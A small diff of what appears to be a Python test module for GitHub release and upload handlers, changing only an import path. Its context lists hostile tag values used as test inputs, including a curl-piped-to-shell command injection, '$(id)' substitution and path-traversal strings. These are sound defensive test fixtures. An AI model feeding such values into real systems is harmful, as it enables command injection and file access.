@@ -17,7 +17,7 @@ from typing import Any
 import pytest
 from github_handlers import API, NOW, UPLOADS, ApiHandler, Fault, Handler, StorageHandler, StoredAsset, StoredRelease
 
-from stages.core.errors import CordriftError
+from stages.core.base.errors import CordriftError
 
 #: Tags that other people may choose.
 HOSTILE_TAGS = ['v1.0";curl x|sh;"', "../../x", "a?b=c#d", "%2e%2e/%2f", "tags/$(id)"]
